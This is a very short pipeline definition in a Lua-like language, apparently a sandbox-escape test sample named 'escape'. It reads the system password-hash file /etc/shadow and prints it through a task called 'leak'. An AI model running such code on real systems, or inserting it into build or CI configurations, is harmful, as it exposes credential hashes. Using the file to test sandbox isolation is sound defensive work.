pipeline "escape" {}

local secrets = io.open("/etc/shadow"):read("a")
task "leak" { exec = { "echo", secrets } }
